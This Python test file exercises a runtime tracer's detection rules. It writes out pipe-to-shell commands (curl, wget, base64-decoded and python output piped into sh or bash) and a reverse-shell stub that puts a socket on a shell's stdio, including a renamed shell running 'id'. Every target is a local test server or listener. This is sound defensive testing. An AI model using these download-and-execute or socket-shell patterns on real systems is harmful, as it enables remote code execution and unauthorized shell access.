# SPDX-License-Identifier: Apache-2.0
"""Standard-stream lineage under the real tracer and probe with the default
policy: a downloaded script piped into a shell (curl, wget and python -c
on the left, against a local HTTP server; curl through base64 -d), a
pipeline whose writer execs after its reader, an attached pipeline whose
writer is known from its PROCESS snapshot, shells and renamed programs on
a TCP socket; and pipelines that must stay quiet (a CI-like `git log | grep | sort`, a
download to a file then checked with sha256sum).
"""

import base64
import http.server
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import unittest

import scenlib

PY = os.path.realpath(sys.executable)


def harness_kill(proc):
    if proc.poll() is None:
        proc.kill()
        proc.wait()


class QuietHandler(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *args):
        pass


class PipelineTest(unittest.TestCase):

    maxDiff = None

    @classmethod
    def setUpClass(cls):
        cls.www = tempfile.mkdtemp(prefix='sentrace-www-')
        with open(os.path.join(cls.www, 'x.sh'), 'w') as f:
            f.write('echo downloaded-script-ran\n')
        with open(os.path.join(cls.www, 'x.b64'), 'w') as f:
            f.write(base64.b64encode(b'echo decoded-script-ran\n').decode() + '\n')
        with open(os.path.join(cls.www, 'data.txt'), 'w') as f:
            f.write('just data\n')
        handler = lambda *a, **k: QuietHandler(*a, directory=cls.www, **k)  # noqa: E731
        cls.httpd = http.server.ThreadingHTTPServer(('127.0.0.1', 0), handler)
        cls.url = 'http://127.0.0.1:%d' % cls.httpd.server_address[1]
        cls.thread = threading.Thread(target=cls.httpd.serve_forever, daemon=True)
        cls.thread.start()

    @classmethod
    def tearDownClass(cls):
        cls.httpd.shutdown()
        cls.httpd.server_close()
        shutil.rmtree(cls.www, ignore_errors=True)

    def setUp(self):
        self.tmp = tempfile.mkdtemp(prefix='sentrace-pipes-')
        os.chmod(self.tmp, 0o755)
        self.runs = 0

    def tearDown(self):
        if os.environ.get('SENTRACE_SCN_KEEP') == '1':
            print('kept ' + self.tmp, file=sys.stderr)
            return
        shutil.rmtree(self.tmp, ignore_errors=True)

    def sh(self, script, keep_events=False):
        self.runs += 1
        return scenlib.trace(['/bin/sh', '-c', script],
                             os.path.join(self.tmp, 'run%d' % self.runs),
                             [scenlib.POLICY], cwd=self.tmp, keep_events=keep_events,
                             timeout=120)

    def assertFired(self, run, rule, what):
        self.assertIn(rule, run.rule_ids(), '%s did not raise %s; alerts:%s%s'
                      % (what, rule, run.describe(), run.summary()))

    def assertNoAlerts(self, run, what):
        self.assertEqual(run.alerts, [], '%s raised alerts:%s%s'
                         % (what, run.describe(), run.summary()))

    def alerts_of(self, run, rule):
        return [a for a in run.alerts if a.get('rule_id') == rule]

    # ---- a downloaded script piped into a shell ----

    def test_curl_piped_to_bash(self):
        run = self.sh('curl -s %s/x.sh | bash' % self.url)
        self.assertIn('downloaded-script-ran', run.stdout, run.summary())
        self.assertFired(run, 'download_piped_to_shell', 'curl | bash')
        (a,) = self.alerts_of(run, 'download_piped_to_shell')
        self.assertEqual(os.path.basename(a['process']['file']), 'bash', a)
        # The alert shows what the streams were (docs/alerts.md).
        self.assertEqual(a['output_fields'].get('exec.stdin.type'), 'pipe', a)

    def test_wget_piped_to_sh(self):
        run = self.sh('wget -q -O- %s/x.sh | sh' % self.url)
        self.assertIn('downloaded-script-ran', run.stdout, run.summary())
        self.assertFired(run, 'download_piped_to_shell', 'wget -O- | sh')

    def test_python_piped_to_sh(self):
        run = self.sh('%s -c "print(\'echo generated-ran\')" | sh' % PY)
        self.assertIn('generated-ran', run.stdout, run.summary())
        self.assertFired(run, 'download_piped_to_shell', 'python3 -c … | sh')

    def test_curl_through_a_filter_to_sh(self):
        """The shell's stdin writer is base64; curl is one pipe further up."""
        run = self.sh('curl -s %s/x.b64 | base64 -d | sh' % self.url)
        self.assertIn('decoded-script-ran', run.stdout, run.summary())
        self.assertFired(run, 'download_piped_to_shell', 'curl | base64 -d | sh')

    def test_writer_exec_after_reader(self):
        """The left side sleeps in a subshell before curl execs: the probe
        sees bash's exec, with nobody writing its pipe yet, first; the rule
        fires when curl's exec arrives, and only once."""
        run = self.sh('(sleep 0.5; curl -s %s/x.sh) | bash' % self.url, keep_events=True)
        self.assertIn('downloaded-script-ran', run.stdout, run.summary())
        order = []
        with open(run.probe.events) as f:
            for line in f:
                rec = json.loads(line)
                ev = rec.get('event') or {}
                if rec.get('type') == 'event' and ev.get('ev') == 'exec':
                    order.append(os.path.basename(ev.get('file', '')))
        self.assertIn('bash', order, order)
        self.assertIn('curl', order, order)
        self.assertLess(order.index('bash'), order.index('curl'),
                        'the reader was meant to exec first: %r' % order)
        self.assertFired(run, 'download_piped_to_shell', '(sleep; curl) | bash')
        self.assertEqual(len(self.alerts_of(run, 'download_piped_to_shell')), 1,
                         run.describe())

    def test_attached_writer_from_its_snapshot(self):
        """Attach mode: the writer was running before the tracer came and
        never execs again; its snapshot says what its stdout is."""
        go = os.path.join(self.tmp, 'go')
        code = ('import os, time\n'
                'while not os.path.exists(%r): time.sleep(0.02)\n'
                'print("echo attached-ran")\n' % go)
        out_path = os.path.join(self.tmp, 'reader.out')
        with open(out_path, 'wb') as out:
            writer = subprocess.Popen([PY, '-c', code], stdout=subprocess.PIPE,
                                      stdin=subprocess.DEVNULL, start_new_session=True)
            reader = subprocess.Popen(
                ['/bin/sh', '-c', 'while [ ! -e %s ]; do :; done; exec bash' % go],
                stdin=writer.stdout, stdout=out, start_new_session=True)
        writer.stdout.close()
        self.addCleanup(harness_kill, writer)
        self.addCleanup(harness_kill, reader)
        probe = scenlib.PolicyProbe(self.subdir_of('attach'), [scenlib.POLICY],
                                    keep_events=True).start()
        self.addCleanup(probe.stop)
        err_path = os.path.join(self.tmp, 'tracer.err')
        with open(err_path, 'wb') as err:
            tracer = subprocess.Popen(
                [scenlib.SENTRACE, 'trace', '--probe-addr', probe.addr,
                 '--disable-proc-scan', '--pid', str(writer.pid), '--pid', str(reader.pid)],
                stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=err,
                start_new_session=True)
        self.addCleanup(harness_kill, tracer)

        def snapshots_in():
            pids = set()
            try:
                with open(probe.events) as f:
                    for line in f:
                        rec = json.loads(line) if line.strip() else {}
                        if rec.get('type') == 'process':
                            pids.add((rec.get('process') or {}).get('pid'))
            except (FileNotFoundError, ValueError):
                return False
            return {writer.pid, reader.pid} <= pids
        scenlib.harness.wait_for(snapshots_in, timeout=30, what='both snapshots')
        open(go, 'w').close()
        reader.wait(30)
        writer.wait(30)
        tracer.wait(60)
        self.assertEqual(probe.stop(), 0, probe.log_text())
        with open(out_path) as f:
            self.assertIn('attached-ran', f.read())
        alerts = probe.alert_records()
        with open(err_path, errors='replace') as f:
            err = f.read()
        self.assertIn('download_piped_to_shell', {a.get('rule_id') for a in alerts},
                      '%s\n%s' % ([scenlib.describe_alert(a) for a in alerts], err[-2000:]))

    def subdir_of(self, name):
        path = os.path.join(self.tmp, name)
        os.makedirs(path, exist_ok=True)
        return path

    # ---- shells on a socket ----

    def listener(self):
        srv = socket.socket()
        srv.bind(('127.0.0.1', 0))
        srv.listen(1)
        got = []

        def serve():
            try:
                c, _ = srv.accept()
                c.settimeout(60)
                while True:
                    b = c.recv(4096)
                    if not b:
                        break
                    got.append(b)
                c.close()
            except OSError:
                pass
        t = threading.Thread(target=serve, daemon=True)
        t.start()
        return srv, t, got

    def dup_and_exec(self, port, prog, args):
        """python connects to PORT, puts the socket on fds 0-2, execs PROG."""
        code = ('import socket,os\n'
                's=socket.create_connection(("127.0.0.1",%d))\n'
                'for f in (0,1,2): os.dup2(s.fileno(),f)\n'
                'os.execv(%r,%r)\n' % (port, prog, [prog] + args))
        path = os.path.join(self.tmp, 'connect.py')
        with open(path, 'w') as f:
            f.write(code)
        return '%s %s' % (PY, path)

    def test_shell_on_socket(self):
        srv, t, got = self.listener()
        try:
            run = self.sh(self.dup_and_exec(srv.getsockname()[1], '/bin/sh',
                                            ['-c', 'echo on-socket']))
        finally:
            t.join(30)
            srv.close()
        self.assertIn(b'on-socket', b''.join(got), run.summary())
        self.assertFired(run, 'shell_stdin_network_socket', 'sh on a TCP socket')

    def test_renamed_shell_on_socket(self):
        """A copy of dash under an innocent name, and what it runs."""
        innocent = os.path.join(self.tmp, 'updater')
        shutil.copy('/bin/dash' if os.path.exists('/bin/dash') else '/bin/sh', innocent)
        os.chmod(innocent, 0o755)
        srv, t, got = self.listener()
        try:
            run = self.sh(self.dup_and_exec(srv.getsockname()[1], innocent,
                                            ['-c', 'id; echo renamed-on-socket']))
        finally:
            t.join(30)
            srv.close()
        self.assertIn(b'renamed-on-socket', b''.join(got), run.summary())
        self.assertFired(run, 'stdio_on_network_socket', 'a renamed shell on a TCP socket')
        names = {os.path.basename(a['process']['file'])
                 for a in self.alerts_of(run, 'stdio_on_network_socket')}
        self.assertIn('updater', names, run.describe())
        self.assertIn('id', names, run.describe())

    # ---- pipelines that are not attacks ----

    def test_ci_pipeline_is_quiet(self):
        work = os.path.join(self.tmp, 'repo')
        os.makedirs(work)
        script = ('cd %s && git init -q . && git config user.email t@example.invalid && '
                  'git config user.name t && echo a > f && git add f && '
                  'git commit -q -m "fix: one" && echo b >> f && git commit -q -am "feat: two" && '
                  'git log --oneline | grep -E "fix|feat" | sort | wc -l && '
                  'printf "b\\na\\n" | sort | uniq' % work)
        self.runs += 1
        run = scenlib.trace(['/bin/sh', '-c', script], os.path.join(self.tmp, 'run-ci'),
                            [scenlib.POLICY], cwd=work,
                            env=dict(os.environ, HOME=work, GIT_CONFIG_NOSYSTEM='1',
                                     PAGER='cat'))
        self.assertIn('2', run.stdout, run.summary())
        self.assertNoAlerts(run, 'git log | grep | sort')

    def test_download_to_file_then_checksum_is_quiet(self):
        run = self.sh('curl -s -o data.txt %s/data.txt && sha256sum data.txt && '
                      'curl -s %s/data.txt > data2.txt && sha256sum data2.txt'
                      % (self.url, self.url))
        self.assertIn('data.txt', run.stdout, run.summary())
        self.assertNoAlerts(run, 'curl > file; sha256sum file')


if __name__ == '__main__':
    scenlib.check_programs()
    unittest.main(verbosity=2)
